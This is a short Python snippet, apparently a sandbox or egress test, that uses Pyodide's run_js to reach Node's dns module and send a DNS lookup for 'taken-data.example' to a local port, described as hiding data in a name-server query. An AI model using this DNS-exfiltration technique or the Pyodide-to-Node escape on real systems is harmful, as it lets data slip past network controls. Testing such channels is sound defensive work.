"""Hides data in a question to a name server."""

from pyodide.code import run_js

ask = run_js("""(port) => new Promise((resolve) => {
  const { Resolver } = process.getBuiltinModule("dns");
  const resolver = new Resolver({ timeout: 200, tries: 1 });
  resolver.setServers([`127.0.0.1:${port}`]);
  resolver.resolve4("taken-data.example", (error) => resolve(String(error)));
})""")
print(await ask(UDP_PORT))
